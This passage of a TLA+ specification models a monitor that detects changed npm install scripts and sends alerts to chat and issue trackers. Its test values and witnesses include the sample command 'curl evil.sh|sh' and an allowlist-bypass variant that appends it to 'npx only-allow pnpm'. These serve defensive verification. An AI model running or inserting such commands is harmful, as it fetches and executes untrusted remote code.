(* # null; precedence is (num, pre): a prerelease sorts below its release, *)
(* build metadata is ignored.                                              *)
MaxNum == 2
MaxKeys == 3

Null == [num |-> 0 - 1, pre |-> FALSE, build |-> FALSE, ok |-> FALSE]
BadKey == [num |-> 0, pre |-> FALSE, build |-> FALSE, ok |-> FALSE]
GoodKeys == [num : 1..MaxNum, pre : BOOLEAN, build : BOOLEAN, ok : {TRUE}]
VersionKeys == GoodKeys \cup {BadKey}

isLikelyVersionKey(k) == k.ok

(* semver.compare of two valid keys: -1, 0, 1 *)
semverCompare(a, b) ==
  IF a.num # b.num THEN (IF a.num < b.num THEN 0 - 1 ELSE 1)
  ELSE IF a.pre = b.pre THEN 0
  ELSE IF a.pre THEN 0 - 1 ELSE 1

(* the stable sort with comparator (a, b) => semver.compare(b, a): k goes
   behind every element that is not lower than it *)
RECURSIVE InsertDesc(_, _)
InsertDesc(sorted, k) ==
  IF sorted = << >> THEN << k >>
  ELSE IF semverCompare(Head(sorted), k) >= 0
    THEN << Head(sorted) >> \o InsertDesc(Tail(sorted), k)
  ELSE << k >> \o sorted

RECURSIVE SortDesc(_)
SortDesc(keys) ==
  IF keys = << >> THEN << >>
  ELSE InsertDesc(SortDesc(SubSeq(keys, 1, Len(keys) - 1)), keys[Len(keys)])

At(s, i) == IF i <= Len(s) THEN s[i] ELSE Null

(* worker.ts pickLatestAndPreviousVersions on Object.keys(versions) *)
pickSorted(keys) ==
  LET sortedVersions == SortDesc(SelectSeq(keys, isLikelyVersionKey))
  IN [latest |-> At(sortedVersions, 1), previous |-> At(sortedVersions, 2)]

(* index.ts pickLatestAndPreviousVersions on Object.keys(versions) and
   dist-tags.latest *)
pickTagged(keys, tag) ==
  LET Lower(v) == isLikelyVersionKey(v) /\ v # tag /\ semverCompare(v, tag) < 0
      previousVersions == SortDesc(SelectSeq(keys, Lower))
  IN IF tag = Null \/ tag \notin SeqToSet(keys)
       THEN [latest |-> Null, previous |-> Null]
       ELSE [latest |-> tag, previous |-> At(previousVersions, 1)]

(* packuments: the keys of versions in insertion order, and dist-tags.latest *)
KeyLists ==
  {ks \in UNION {[1..n -> VersionKeys] : n \in 0..MaxKeys} :
     \A i, j \in 1..Len(ks) : i # j => ks[i] # ks[j]}

ResolveCalls ==
  [fn : {"resolve"}, keys : KeyLists, tag : VersionKeys \cup {Null}]

IdleAt(dep) ==
  /\ deployment = dep /\ feed = << >> /\ pc = "start" /\ since = 0
  /\ backoffMs = BaseBackoffMs /\ batch = << >> /\ ri = 0 /\ batchSeq = 0
  /\ queue = << >> /\ active = << >> /\ replay = << >> /\ flagged = {}
  /\ lastSeenLatest = [n \in Names |-> 0] /\ findings = << >>
  /\ alerted = {} /\ scanned = [n \in Names |-> 0]
  /\ jobLog = [n \in Names |-> "none"] /\ afterThrow = {} /\ fails = 0
  /\ restarts = 0 /\ is_shutting_down = FALSE /\ clock = Untimed

pipeVars ==
  << deployment, feed, prodVars, jobVars, memVars, scanVars, jobLog,
     afterThrow, fails, restarts, is_shutting_down, clock >>

InitResolve == IdleAt("queue") /\ call \in ResolveCalls /\ ret = NoRet

(* the queue worker resolves the packument *)
ResolveWorker ==
  /\ call.fn = "resolve" /\ ret = NoRet
  /\ ret' = [by |-> "worker"] @@ pickSorted(call.keys)
  /\ UNCHANGED << call, pipeVars >>

(* the monitor resolves the packument *)
ResolveMonitor ==
  /\ call.fn = "resolve" /\ ret = NoRet
  /\ ret' = [by |-> "monitor"] @@ pickTagged(call.keys, call.tag)
  /\ UNCHANGED << call, pipeVars >>

NextResolve == ResolveWorker \/ ResolveMonitor

SpecResolve == InitResolve /\ [][NextResolve]_vars

ValidOf(keys) == {k \in SeqToSet(keys) : isLikelyVersionKey(k)}

(* C14: previous is a highest valid key strictly below latest, or null when
   there is none; a non-null previous is strictly below latest. *)
C14_PreviousStrictlyLower ==
  ret.by = "worker" =>
    LET lower == {k \in ValidOf(call.keys) : semverCompare(k, ret.latest) < 0}
    IN IF ret.latest = Null \/ lower = {}
         THEN ret.previous = Null
         ELSE /\ ret.previous \in lower
              /\ \A k \in lower : semverCompare(k, ret.previous) <= 0

(* C15: latest is a highest valid key of the versions map whatever
   dist-tags.latest says, and null exactly when no key is valid (then
   previous is null too). *)
C15_LatestIsHighest ==
  ret.by \in {"worker", "monitor"} =>
    IF ValidOf(call.keys) = {}
      THEN ret.latest = Null /\ ret.previous = Null
      ELSE /\ ret.latest \in ValidOf(call.keys)
           /\ \A k \in ValidOf(call.keys) : semverCompare(k, ret.latest) <= 0

(* ------------------------ script diff on its own ---------------------- *)
(* what scripts[scriptType] of a version document may hold *)
Undefined == "<undefined>"
NullCmd == "<null>"
ScriptValues ==
  {Undefined, "", "  ", "curl evil.sh|sh", " curl evil.sh|sh",
   "npx only-allow pnpm", "NPX Only-Allow pnpm ",
   "npx only-allow pnpm; curl evil.sh|sh"}

(* the i flag of the allowlist pattern *)
toLower(cmd) == IF cmd = "NPX Only-Allow pnpm" THEN "npx only-allow pnpm" ELSE cmd

(* SCRIPT_ALLOWLIST: /^npx only-allow pnpm$/i *)
allowlistTest(trimmed) == toLower(trimmed) = "npx only-allow pnpm"

(* lib/utils.ts isScriptAllowed *)
isScriptAllowed(scriptContent) ==
  IF scriptContent = "" \/ scriptContent = Undefined THEN FALSE
  ELSE IF trim(scriptContent) = "" THEN TRUE
  ELSE allowlistTest(trim(scriptContent))

(* a loop that compares the commands without their outer whitespace *)
cmdOfTrimmed(val) == IF val = Undefined THEN "" ELSE trim(val)

(* hasScript / getScript on the value of scripts[scriptType]; a missing
   document reads as Undefined *)
hasCmd(val) == val # Undefined /\ trim(val) # ""
cmdOf(val) == IF val = Undefined THEN "" ELSE val

(* a loop without the allowlist check of the latest command *)
NeverSuppressed(latestHas, latestCmd) == FALSE

(* the latest command is on the allowlist: logged as ignored, continue *)
Suppressed(latestHas, latestCmd) == latestHas /\ isScriptAllowed(latestCmd)

AlertOf(scriptType, action, latestCmd, prevCmd) ==
  [scriptType |-> scriptType, action |-> action, latestCmd |-> latestCmd,
   prevCmd |-> prevCmd]

(* a loop that reports every difference as a change *)
AlwaysChanged(scriptType, latestCmd, prevCmd) ==
  AlertOf(scriptType, "changed", latestCmd, prevCmd)

(* both versions have the script and the commands differ *)
ChangedAlert(scriptType, latestCmd, prevCmd) ==
  IF isScriptAllowed(prevCmd)
    THEN AlertOf(scriptType, "added", latestCmd, NullCmd)
    ELSE AlertOf(scriptType, "changed", latestCmd, prevCmd)

(* one round of the loop over the script types *)
DiffOne(scriptType, latestVal, prevVal) ==
  LET latestHas == hasCmd(latestVal)
      prevHas == hasCmd(prevVal)
      latestCmd == cmdOf(latestVal)
      prevCmd == cmdOf(prevVal)
  IN IF Suppressed(latestHas, latestCmd) THEN << >>
     ELSE IF latestHas /\ ~prevHas
       THEN << AlertOf(scriptType, "added", latestCmd, NullCmd) >>
     ELSE IF latestHas /\ prevHas /\ latestCmd # prevCmd
       THEN << ChangedAlert(scriptType, latestCmd, prevCmd) >>
     ELSE << >>

RECURSIVE DiffOver(_, _, _)
DiffOver(types, latestDoc, prevDoc) ==
  IF types = << >> THEN << >>
  ELSE DiffOne(Head(types), latestDoc[Head(types)], prevDoc[Head(types)])
         \o DiffOver(Tail(types), latestDoc, prevDoc)

VersionDocs == [preinstall : ScriptValues, postinstall : ScriptValues]
(* versions[previous] when previous is null *)
NoDoc == [preinstall |-> Undefined, postinstall |-> Undefined]

DiffCalls == [fn : {"diff"}, latestDoc : VersionDocs, prevDoc : VersionDocs]

InitDiff == IdleAt("queue") /\ call \in DiffCalls /\ ret = NoRet

(* processPackage builds the alerts of the two documents *)
DiffScripts ==
  /\ call.fn = "diff" /\ ret = NoRet
  /\ ret' = [by |-> "diff",
             alerts |-> DiffOver(ScriptTypes, call.latestDoc, call.prevDoc)]
  /\ UNCHANGED << call, pipeVars >>

SpecDiff == InitDiff /\ [][DiffScripts]_vars

Blank(val) == val = Undefined \/ trim(val) = ""
AlertsOfType(t) == SelectSeq(ret.alerts, LAMBDA a : a.scriptType = t)
LatestVal(t) == call.latestDoc[t]
PrevVal(t) == call.prevDoc[t]
Differ(t) == ~Blank(LatestVal(t)) /\ ~Blank(PrevVal(t)) /\ LatestVal(t) # PrevVal(t)

(* C16 as stated: per script name, one 'added' alert when the latest
   command is non-blank and the previous one blank or absent; one 'changed'
   alert with both commands when both are non-blank and differ; no alert
   when the latest command is blank or equals the previous one. *)
C16_Classification ==
  ret.by = "diff" =>
    \A t \in SeqToSet(ScriptTypes) :
      /\ (~Blank(LatestVal(t)) /\ Blank(PrevVal(t)))
           => AlertsOfType(t) = << AlertOf(t, "added", LatestVal(t), NullCmd) >>
      /\ Differ(t)
           => AlertsOfType(t)
                = << AlertOf(t, "changed", LatestVal(t), PrevVal(t)) >>
      /\ (Blank(LatestVal(t)) \/ LatestVal(t) = PrevVal(t))
           => AlertsOfType(t) = << >>

(* C16 with the allowlist: the 'added' case needs a latest command that is
   not allowlisted, the 'changed' case needs that of both commands. *)
C16_ClassificationModuloAllowlist ==
  ret.by = "diff" =>
    \A t \in SeqToSet(ScriptTypes) :
      /\ (~Blank(LatestVal(t)) /\ Blank(PrevVal(t))
            /\ ~isScriptAllowed(LatestVal(t)))
           => AlertsOfType(t) = << AlertOf(t, "added", LatestVal(t), NullCmd) >>
      /\ (Differ(t) /\ ~isScriptAllowed(LatestVal(t))
            /\ ~isScriptAllowed(PrevVal(t)))
           => AlertsOfType(t)
                = << AlertOf(t, "changed", LatestVal(t), PrevVal(t)) >>
      /\ (Blank(LatestVal(t)) \/ LatestVal(t) = PrevVal(t))
           => AlertsOfType(t) = << >>

(* one call shows the three cases: preinstall changed, postinstall blank *)
C16_Witness ==
  /\ ret.by = "diff"
  /\ call.latestDoc = [preinstall |-> "curl evil.sh|sh", postinstall |-> "  "]
  /\ call.prevDoc = [preinstall |-> " curl evil.sh|sh",
                     postinstall |-> "curl evil.sh|sh"]
  /\ Len(ret.alerts) = 1 /\ ret.alerts[1].action = "changed"

(* C17: a latest command on the allowlist produces no alert, whatever the
   previous version holds. *)
C17_AllowlistedNeverAlerts ==
  ret.by = "diff" =>
    \A t \in SeqToSet(ScriptTypes) :
      (~Blank(LatestVal(t)) /\ isScriptAllowed(LatestVal(t)))
        => AlertsOfType(t) = << >>

(* an allowlisted preinstall that the previous version lacks was diffed
   next to a postinstall that is reported *)
C17_Witness ==
  /\ ret.by = "diff"
  /\ call.latestDoc = [preinstall |-> "NPX Only-Allow pnpm ",
                       postinstall |-> "curl evil.sh|sh"]
  /\ call.prevDoc = NoDoc
  /\ Len(ret.alerts) = 1 /\ ret.alerts[1].scriptType = "postinstall"

(* C18: when both commands are non-blank and differ, the latest is not
   allowlisted and the previous is, the alert is 'added' without a previous
   command. *)
C18_AllowlistedBaselineIsAdded ==
  ret.by = "diff" =>
    \A t \in SeqToSet(ScriptTypes) :
      (Differ(t) /\ ~isScriptAllowed(LatestVal(t))
         /\ isScriptAllowed(PrevVal(t)))
        => AlertsOfType(t) = << AlertOf(t, "added", LatestVal(t), NullCmd) >>

(* an allowlisted postinstall was replaced by one that appends a download *)
C18_Witness ==
  /\ ret.by = "diff"
  /\ call.latestDoc = [preinstall |-> Undefined,
                       postinstall |-> "npx only-allow pnpm; curl evil.sh|sh"]
  /\ call.prevDoc = [preinstall |-> Undefined,
                     postinstall |-> "npx only-allow pnpm"]
  /\ ret.alerts # << >> /\ ret.alerts[1].action = "added"

(* ------------------------- dispatch on its own ------------------------ *)
MaxAlerts == 2

(* the i-th alert of a batch *)
SampleAlert(i) ==
  IF i % 2 = 1
    THEN AlertOf("preinstall", "added", "curl evil.sh|sh", NullCmd)
    ELSE AlertOf("postinstall", "changed", "curl evil.sh|sh",
                 "npx only-allow pnpm")

AlertBatch(n) == [i \in 1..n |-> SampleAlert(i)]

(* a sink's environment: "unset" is a missing credential, "ok" and "fail"
   are what the request does when it is made *)
SinkStates == {"unset", "ok", "fail"}
(* packument.repository?.url: missing, rejected by new URL(), fewer than
   two path segments, or usable *)
RepoUrls == {"none", "invalid", "short", "good", "dotgit"}

(* url.pathname.split("/").filter(Boolean) of the URLs that new URL()
   takes: https://github.com/owner, https://github.com/owner/repo and
   git+https://github.com/owner/repo.git *)
pathParts(repoUrl) ==
  IF repoUrl = "short" THEN << "owner" >>
  ELSE IF repoUrl = "dotgit" THEN << "owner", "repo.git" >>
  ELSE << "owner", "repo" >>

DispatchCalls ==
  [fn : {"dispatch"}, n : 0..MaxAlerts, telegram : SinkStates,
   chatId : BOOLEAN, discord : SinkStates, githubToken : BOOLEAN, repoUrl : RepoUrls,
   ticketFails : SUBSET (1..MaxAlerts)]

(* a dispatcher that asks for the bot token only *)
TokenOnly(c) == c.telegram # "unset"

(* if (telegramBotToken && telegramChatId): telegram = "unset" is a missing
   TELEGRAM_BOT_TOKEN, chatId = FALSE a missing TELEGRAM_CHAT_ID *)
TelegramConfigured(c) == c.telegram # "unset" /\ c.chatId

(* a dispatcher whose sink calls are not wrapped *)
Uncaught(sink) == FALSE

(* every sink call sits in a try/catch of its own that logs a WARN *)
Caught(sink) == TRUE

(* a dispatcher that sends one chat message per alert *)
MessagePerAlert(sink, alerts) ==
  [i \in 1..Len(alerts) |-> [sink |-> sink, covers |-> << alerts[i] >>]]

(* the combined message of the chat-bot or webhook sink *)
CombinedMessage(sink, alerts) == << [sink |-> sink, covers |-> alerts] >>

(* one sink block: the requests it makes and whether it throws out of
   the dispatcher *)
SinkBlock(sink, state, alerts) ==
  IF state = "unset" THEN [requests |-> << >>, threw |-> FALSE]
  ELSE [requests |-> CombinedMessage(sink, alerts),
        threw |-> state = "fail" /\ ~Caught(sink)]

(* createGitHubIssue for alert i: new URL and the path check come before
   the request to /repos/${owner}/${repo}/issues *)
TicketBlock(c, alerts, i) ==
  IF c.repoUrl = "invalid" \/ Len(pathParts(c.repoUrl)) < 2
    THEN [requests |-> << >>, threw |-> ~Caught("github")]
    ELSE [requests |-> << [sink |-> "github", covers |-> << alerts[i] >>,
                          owner |-> pathParts(c.repoUrl)[1],
                          repo |-> pathParts(c.repoUrl)[2],
                          previousScriptContent |->
                            IF alerts[i].action = "changed"
                              THEN alerts[i].prevCmd ELSE NullCmd] >>,
          threw |-> i \in c.ticketFails /\ ~Caught("github")]

(* run the blocks in order; a throw ends the function *)
Then(a, b) ==
  IF a.threw THEN a
  ELSE [requests |-> a.requests \o b.requests, threw |-> b.threw]

RECURSIVE Tickets(_, _, _)
Tickets(c, alerts, i) ==
  IF i > Len(alerts) THEN [requests |-> << >>, threw |-> FALSE]
  ELSE Then(TicketBlock(c, alerts, i), Tickets(c, alerts, i + 1))

GithubBlock(c, alerts) ==
  IF c.githubToken /\ c.repoUrl # "none" THEN Tickets(c, alerts, 1)
  ELSE [requests |-> << >>, threw |-> FALSE]

sendCombinedScriptAlertNotifications(c) ==
  LET alerts == AlertBatch(c.n)
  IN IF Len(alerts) = 0 THEN [requests |-> << >>, threw |-> FALSE]
     ELSE Then(SinkBlock("telegram",
                         IF TelegramConfigured(c) THEN c.telegram
                         ELSE "unset", alerts),
            Then(SinkBlock("discord", c.discord, alerts),
                 GithubBlock(c, alerts)))

InitDispatch == IdleAt("queue") /\ call \in DispatchCalls /\ ret = NoRet

DispatchAlerts ==
  /\ call.fn = "dispatch" /\ ret = NoRet
  /\ ret' = [by |-> "dispatch"] @@ sendCombinedScriptAlertNotifications(call)
  /\ UNCHANGED << call, pipeVars >>

SpecDispatch == InitDispatch /\ [][DispatchAlerts]_vars

RequestsTo(sink) == SelectSeq(ret.requests, LAMBDA r : r.sink = sink)
TicketUsable == call.githubToken /\ call.repoUrl = "good"

(* C19: dispatch returns without throwing, and whatever fails, every
   configured sink gets its request and every alert its ticket request. *)
C19_SinkFailuresAreIsolated ==
  ret.by = "dispatch" =>
    /\ ~ret.threw
    /\ (call.n >= 1 /\ call.telegram # "unset" /\ call.chatId)
         => Len(RequestsTo("telegram")) = 1
    /\ (call.n >= 1 /\ call.discord # "unset")
         => Len(RequestsTo("discord")) = 1
    /\ TicketUsable
         => \A i \in 1..call.n :
              \E j \in 1..Len(ret.requests) :
                /\ ret.requests[j].sink = "github"
                /\ ret.requests[j].covers = << AlertBatch(call.n)[i] >>

(* the chat-bot call and the first ticket failed; the webhook and the
   second ticket were still sent *)
C19_Witness ==
  /\ ret.by = "dispatch" /\ ~ret.threw
  /\ call.n = 2 /\ call.telegram = "fail" /\ call.chatId
  /\ call.discord = "ok"
  /\ TicketUsable /\ call.ticketFails = {1}
  /\ Len(ret.requests) = 4

(* C20: with every sink configured and answering, a batch of n >= 1 alerts
   gives one chat-bot message and one webhook message, each for the whole
   batch, and n tickets, the i-th for the i-th alert; an empty batch gives
   no request. *)
C20_OneMessageAndNTickets ==
  ret.by = "dispatch" =>
    /\ call.n = 0 => ret.requests = << >>
    /\ (call.n >= 1 /\ call.telegram = "ok" /\ call.chatId
          /\ call.discord = "ok" /\ TicketUsable /\ call.ticketFails \cap (1..call.n) = {})
         => /\ RequestsTo("telegram")
                 = << [sink |-> "telegram", covers |-> AlertBatch(call.n)] >>
            /\ RequestsTo("discord")
                 = << [sink |-> "discord", covers |-> AlertBatch(call.n)] >>
            /\ Len(RequestsTo("github")) = call.n
            /\ \A i \in 1..call.n :
                 RequestsTo("github")[i].covers = << AlertBatch(call.n)[i] >>

(* a batch of two alerts went to three working sinks *)
C20_Witness ==
  /\ ret.by = "dispatch"
  /\ call.n = MaxAlerts /\ call.telegram = "ok" /\ call.chatId
  /\ call.discord = "ok"
  /\ TicketUsable /\ call.ticketFails = {}
  /\ Len(ret.requests) = MaxAlerts + 2

RequestsIn(r, sink) == SelectSeq(r.requests, LAMBDA q : q.sink = sink)
(* the same call with every sink configured and answering *)
AllConfigured(c) ==
  [c EXCEPT !.telegram = IF @ = "unset" THEN "ok" ELSE @, !.chatId = TRUE,
            !.discord = IF @ = "unset" THEN "ok" ELSE @,
            !.githubToken = TRUE,
            !.repoUrl = IF @ = "none" THEN "good" ELSE @]
TicketConfigured(c) == c.githubToken /\ c.repoUrl # "none"

(* C21: a sink whose configuration is incomplete gets no request; skipping
   it raises no error, and every sink that is configured gets exactly the
   requests it gets when all sinks are configured. *)
C21_UnconfiguredSinkIsSkipped ==
  ret.by = "dispatch" =>
    LET full == sendCombinedScriptAlertNotifications(AllConfigured(call))
    IN /\ ~ret.threw
       /\ IF call.telegram # "unset" /\ call.chatId
            THEN RequestsTo("telegram") = RequestsIn(full, "telegram")
            ELSE RequestsTo("telegram") = << >>
       /\ IF call.discord # "unset"
            THEN RequestsTo("discord") = RequestsIn(full, "discord")
            ELSE RequestsTo("discord") = << >>
       /\ IF TicketConfigured(call)
            THEN RequestsTo("github") = RequestsIn(full, "github")
            ELSE RequestsTo("github") = << >>

(* the bot token is set but the chat id is not: only the webhook and the
   issue tracker were called *)
C21_Witness ==
  /\ ret.by = "dispatch"
  /\ call.n = 1 /\ call.telegram = "ok" /\ ~call.chatId
  /\ call.discord = "ok" /\ TicketUsable /\ call.ticketFails = {}
  /\ Len(ret.requests) = 2

(* a path segment without a trailing ".git" *)
StripDotGit(segment) == IF segment = "repo.git" THEN "repo" ELSE segment

(* C28: every ticket request goes to the first path segment as owner and
   the second one, without a trailing ".git", as repo; a URL with fewer than
   two segments gives no request. *)
C28_TicketAddress ==
  ret.by = "dispatch" =>
    /\ \A j \in 1..Len(ret.requests) :
         ret.requests[j].sink = "github"
           => /\ ret.requests[j].owner = pathParts(call.repoUrl)[1]
              /\ ret.requests[j].repo = StripDotGit(pathParts(call.repoUrl)[2])
    /\ call.repoUrl = "short" => RequestsTo("github") = << >>

(* ---------------- the pool's job from its alerts onwards --------------- *)
(* what sendCombinedScriptAlertNotifications hands back: it is declared
   Promise<void> and has no return statement *)
Returned(c) == Undefined

AlertFinding(alert) ==
  [packageName |-> "a", version |-> 1, scriptType |-> alert.scriptType,
   scriptContent |-> alert.latestCmd, issuesend |-> FALSE]

(* the indexes of the Findings with a key *)
Matches(store, packageName, version, scriptType) ==
  {k \in 1..Len(store) : /\ store[k].packageName = packageName
                         /\ store[k].version = version
                         /\ store[k].scriptType = scriptType}

(* an update that marks every Finding with the key *)
updateEveryMatch(store, packageName, version, scriptType, status) ==
  LET hits == Matches(store, packageName, version, scriptType)
  IN [file |-> [k \in 1..Len(store) |->
                  IF k \in hits THEN [store[k] EXCEPT !.issuesend = status]
                  ELSE store[k]],
      wrote |-> hits # {}]

(* lib/db.ts updateFindingIssueStatus: findIndex gives the first Finding
   with the key; the file is written only when there is one *)
updateFindingIssueStatus(store, packageName, version, scriptType, status) ==
  LET hits == Matches(store, packageName, version, scriptType)
  IN IF hits = {} THEN [file |-> store, wrote |-> FALSE]
     ELSE [file |-> [store EXCEPT
                       ![CHOOSE k \in hits : \A h \in hits : k <= h].issuesend
                          = status],
           wrote |-> TRUE]

RECURSIVE MarkAll(_, _)
MarkAll(store, delivered) ==
  IF delivered = << >> THEN store
  ELSE MarkAll(updateFindingIssueStatus(store, "a", 1,
                                        Head(delivered).scriptType,
                                        TRUE).file,
               Tail(delivered))

(* piscina-worker.ts lines 144-174 *)
SaveDispatchMark(c) ==
  LET alerts == AlertBatch(c.n)
      saved == SaveAll(<< >>, [i \in 1..Len(alerts) |-> AlertFinding(alerts[i])])
      sent == sendCombinedScriptAlertNotifications(c)
  IN IF Len(alerts) = 0
       THEN [findings |-> << >>, requests |-> << >>, threw |-> FALSE]
     ELSE IF sent.threw \/ Returned(c) = Undefined
       THEN [findings |-> saved, requests |-> sent.requests, threw |-> TRUE]
     ELSE [findings |-> MarkAll(saved, Returned(c)),
           requests |-> sent.requests, threw |-> FALSE]

DeliverCalls == {[c EXCEPT !.fn = "deliver"] : c \in DispatchCalls}

InitDeliver == IdleAt("pending") /\ call \in DeliverCalls /\ ret = NoRet

PoolJobTail ==
  /\ call.fn = "deliver" /\ ret = NoRet
  /\ ret' = [by |-> "deliver"] @@ SaveDispatchMark(call)
  /\ UNCHANGED << call, pipeVars >>

SpecDeliver == InitDeliver /\ [][PoolJobTail]_vars

(* the ticket of alert i was created *)
TicketCreated(i) ==
  /\ call.githubToken
  /\ call.repoUrl \in {"good", "dotgit"}
  /\ i \notin call.ticketFails

(* C22: the job ends without an error, and a Finding has issuesend = TRUE
   exactly when the ticket of its alert was created. *)
C22_DeliveredMarksFindings ==
  ret.by = "deliver" =>
    /\ ~ret.threw
    /\ \A i \in 1..call.n :
         \E k \in 1..Len(ret.findings) :
           /\ ret.findings[k].scriptType = AlertBatch(call.n)[i].scriptType
           /\ ret.findings[k].issuesend = TicketCreated(i)

(* ---------------- rewriting a store file ------------------------------- *)
MaxRecords == 2
MaxRecordId == 3

Records == 1..MaxRecordId

Stores == UNION {[1..n -> Records] : n \in 0..MaxRecords}

(* a list that puts the new entry last *)
push(store, x) == Append(store, x)

(* saveFinding / savePendingTask: the new entry goes on top *)
unshift(store, x) == << x >> \o store

(* removePendingTask: every entry with the key goes *)
without(store, x) == SelectSeq(store, LAMBDA y : y # x)

Rewritten(c) ==
  IF c.op = "unshift" THEN unshift(c.old, c.x) ELSE without(c.old, c.x)

StoreCalls == [fn : {"write"}, op : {"unshift", "remove"}, old : Stores,
               x : Records]

(* the file holds the previous sequence when the rewrite starts *)
InitStore ==
  /\ IdleAt("pending")
  /\ call \in StoreCalls
  /\ ret = [by |-> "write", at |-> "read", file |-> call.old]

(* fs.writeFile(path, text, "utf8") opens the file itself with flag "w":
   the file is truncated in place *)
OpenTruncates ==
  /\ call.fn = "write" /\ ret.at = "read"
  /\ ret' = [ret EXCEPT !.at = "open", !.file = << >>]
  /\ UNCHANGED << call, pipeVars >>

(* the text goes into the same file, front to back; one entry of the
   sequence stands for some bytes of the text *)
WriteSome ==
  /\ call.fn = "write" /\ ret.at = "open"
  /\ Len(ret.file) < Len(Rewritten(call))
  /\ ret' = [ret EXCEPT !.file = SubSeq(Rewritten(call), 1, Len(ret.file) + 1)]
  /\ UNCHANGED << call, pipeVars >>

WriteCloses ==
  /\ call.fn = "write" /\ ret.at = "open"
  /\ Len(ret.file) = Len(Rewritten(call))
  /\ ret' = [ret EXCEPT !.at = "written"]
  /\ UNCHANGED << call, pipeVars >>

(* the process dies; the file stays as it is *)
CrashInWrite ==
  /\ call.fn = "write" /\ ret.at \in {"read", "open"}
  /\ ret' = [ret EXCEPT !.at = "crashed"]
  /\ UNCHANGED << call, pipeVars >>

NextStore == OpenTruncates \/ WriteSome \/ WriteCloses \/ CrashInWrite

SpecStore == InitStore /\ [][NextStore]_vars

(* C23: after a crash during a rewrite the file holds the whole previous
   sequence or the whole new one. *)
C23_RewriteIsAtomic ==
  (call.fn = "write" /\ ret.at = "crashed") =>
     ret.file \in {call.old, Rewritten(call)}

(* ---------------- the pending store and its tasks ---------------------- *)
(* C24: when the handler of a pending task has returned, or failed for
   good, the task is no longer in the pending store. *)
C24_FinishedTaskLeavesStore ==
  [][\A i \in 1..Len(active) :
       (deployment = "pending" /\ (ScanJob(i) \/ JobFails(i)))
          => active[i].name \notin JobNames(queue')]_vars

(* ---------------- shutting the pool's producer down -------------------- *)
(* shutdown(): sets the flag once *)
shutdown ==
  /\ deployment = "pending"
  /\ pc \notin {"fatal", "exited", "exited0", "crashed", "stopped"}
  /\ ~is_shutting_down
  /\ is_shutting_down' = TRUE
  /\ UNCHANGED << deployment, feed, prodVars, jobVars, memVars, scanVars,
                  jobLog, afterThrow, fails, restarts, fnVars, clock >>

(* what the code after the loop hands to the pool: outside GITHUB_ACTIONS
   an un-awaited loop runs every task of the pending file, one at a time *)
AfterLoopReplay(githubActions, q) == IF githubActions THEN << >> ELSE q

(* the loop condition is false: the code after the loop runs, "Producer has
   shut down." is written and startProducer returns *)
LoopExits ==
  /\ deployment = "pending"
  /\ pc = "poll"
  /\ is_shutting_down
  /\ pc' = "stopped"
  /\ \E githubActions \in BOOLEAN :
       replay' = replay \o AfterLoopReplay(githubActions, queue)
  /\ UNCHANGED << deployment, feed, since, backoffMs, batch, ri, batchSeq,
                  queue, active, memVars, scanVars, jobLog, afterThrow,
                  fails, restarts, fnVars, is_shutting_down, clock >>

NextStop ==
  \/ \E id \in Ids : FeedRow(id)
  \/ GetInitialSince
  \/ PollOk
  \/ SleepDone
  \/ HandoffRow
  \/ StartJob
  \/ \E i \in 1..Concurrency : JobFails(i)
  \/ \E i \in 1..Concurrency : ScanJob(i)
  \/ shutdown
  \/ LoopExits

(* every await of the poll loop returns, the pool runs what it was given *)
SpecStop ==
  /\ InitOf({"pending"})
  /\ [][NextStop]_vars
  /\ WF_vars(Producer \/ LoopExits)
  /\ WF_vars(Workers \/ \E i \in 1..Concurrency : JobFails(i))

(* the loop is left and the shutdown is reported *)
C25_LoopIsLeft == is_shutting_down ~> (pc = "stopped")

(* C25: after a shutdown request the producer leaves its poll loop and
   reports that it has shut down, and after that no scan job is started. *)
C25_StopsAndStartsNothing ==
  /\ C25_LoopIsLeft
  /\ [][pc = "stopped" => ~StartJob]_vars

(* ---------------- the delay before a job's packument fetch ------------- *)
(* the visibility delay's worth of time has gone by for a name *)
DelayElapses(name) ==
  /\ clock.kept
  /\ name \in clock.fresh
  /\ clock' = [clock EXCEPT !.fresh = @ \ {name}]
  /\ UNCHANGED << deployment, feed, prodVars, jobVars, memVars, scanVars,
                  jobLog, afterThrow, fails, restarts, fnVars,
                  is_shutting_down >>

NextDelay ==
  \/ Next
  \/ \E name \in Names : DelayElapses(name)

(* the pipeline with a clock *)
SpecDelay == InitWith(Deployments, Timed) /\ [][NextDelay]_vars

(* C26: the handler of a job fetches the packument only when the
   visibility delay has gone by since the job's change event was enqueued. *)
C26_FetchAfterDelay ==
  [][\A i \in 1..Len(active) :
       (ScanJob(i) \/ JobFails(i)) => Elapsed(clock, active[i].name)]_vars

(* ---------------- the concurrency limit -------------------------------- *)
(* C27: never more handlers run at once than the concurrency limit, and the
   limit is at least 1. *)
C27_AtMostConcurrencyActive ==
  /\ Concurrency >= 1
  /\ deployment \in {"monitor", "queue"} => Len(active) <= Concurrency

(* the limit is reached while another job waits for a slot *)
C27_Witness ==
  /\ deployment \in {"monitor", "queue"}
  /\ Len(active) = Concurrency
  /\ queue # << >>

(* ---------------- a feed response of the wrong shape ------------------- *)
(* C29: a response without results or last_seq leaves the cursor and the
   queue as they were and is followed by the wait of a failed poll: after
   the k-th consecutive failure min(1000 * 2^(k-1), 30000) ms. *)
C29_MalformedBacksOffLikeFailure ==
  [][PollMalformed =>
       /\ since' = since
       /\ queue' = queue
       /\ pc' = "backoff"
       /\ backoffMs' = Min(BaseBackoffMs * Pow2(fails), MaxBackoffMs)]_vars

(* ---------------- the steps of one scan job ---------------------------- *)
(* the queue worker, the pool's worker, the queue worker with the allowlist *)
Handlers == {"worker", "piscina-worker", "allowlist-worker"}

JobCalls == [fn : {"job"}, handler : Handlers, fetchOk : BOOLEAN,
             latest : BOOLEAN, n : 0..MaxAlerts]

InitSteps ==
  /\ IdleAt("queue")
  /\ call \in JobCalls
  /\ ret = [by |-> "job", at |-> "fetch", steps |-> << >>, saved |-> 0]

Stepped(step, next) ==
  ret' = [ret EXCEPT !.steps = Append(@, step), !.at = next]

(* await fetchPackument(...): a failed fetch ends the job *)
StepFetch ==
  /\ call.fn = "job" /\ ret.at = "fetch"
  /\ Stepped("fetch", IF call.fetchOk THEN "resolve" ELSE "threw")
  /\ UNCHANGED << call, pipeVars >>

(* pickLatestAndPreviousVersions(packument); if (!latest) return *)
StepResolve ==
  /\ call.fn = "job" /\ ret.at = "resolve"
  /\ Stepped("resolve", IF call.latest THEN "diff" ELSE "done")
  /\ UNCHANGED << call, pipeVars >>

(* does the handler write its alerts to the findings file *)
